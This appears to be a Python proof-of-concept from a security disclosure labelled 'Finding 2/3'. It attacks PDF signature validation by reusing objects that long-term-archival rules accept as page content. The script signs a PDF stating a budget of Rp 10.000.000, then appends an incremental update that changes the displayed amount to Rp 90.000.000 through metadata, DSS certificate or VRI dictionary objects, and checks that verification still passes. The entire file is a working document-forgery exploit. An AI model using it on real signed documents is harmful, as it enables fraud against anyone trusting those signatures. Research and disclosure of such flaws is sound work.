# SPDX-License-Identifier: GPL-3.0-or-later
# Finding 2/3: objects that LTA rules accept "in place" are also page content/resources.
#  meta : the page's content stream is also the catalog's /Metadata (/Type /Metadata /Subtype /XML)
#  certs: the page's /Contents array is also /DSS /Certs (an array of streams)
#  vri  : the page's /Resources is also /DSS /VRI (any dictionary accepted)
from common import *
import sys
variant = sys.argv[1]; cert = sys.argv[2] if len(sys.argv) > 2 else None
OLD = b"BT /F1 24 Tf 72 720 Td (Jumlah anggaran: Rp 10.000.000) Tj ET"
NEW = b"BT /F1 24 Tf 0 0 1 rg 72 720 Td (Jumlah anggaran: Rp 90.000.000) Tj ET"
font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
if variant == "meta":
    objs = {1: b"<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
            4: stream(OLD, b"/Type /Metadata /Subtype /XML "), 5: font}
    later = lambda n: {4: stream(NEW, b"/Type /Metadata /Subtype /XML ")}
elif variant == "certs":
    objs = {1: b"<< /Type /Catalog /Pages 2 0 R /DSS 6 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 7 0 R >>",
            4: stream(OLD), 5: font,
            6: b"<< /Type /DSS /Certs 7 0 R >>",
            7: b"[4 0 R]"}
    later = lambda n: {7: b"[%d 0 R]" % n, n: stream(NEW)}
elif variant == "vri":
    objs = {1: b"<< /Type /Catalog /Pages 2 0 R /DSS 6 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 7 0 R /Contents 4 0 R >>",
            4: stream(OLD + b" /X Do"), 5: font,
            6: b"<< /Type /DSS /VRI 7 0 R >>",
            7: b"<< /Font << /F1 5 0 R >> /XObject << /X 8 0 R >> >>",
            8: stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] ")}
    later = lambda n: {7: b"<< /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>" % n,
                       n: stream(b"q 1 1 1 rg 60 700 500 60 re f Q " + NEW, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> ")}
tag = "a2-" + variant + ("-cert" + cert if cert else "")
src = write(tag + "-src.pdf", build(objs))
signed = sign(src, W + "/" + tag + "-signed.pdf", *(["--certify", cert] if cert else []))
out = update(signed, later(pdftool.Pdf(signed).size()))
f = write(tag + "-attack.pdf", out)
verify(W + "/" + tag + "-signed.pdf"); verify(f); render(W + "/" + tag + "-signed.pdf", tag + "-signed"); render(f, tag + "-attack")
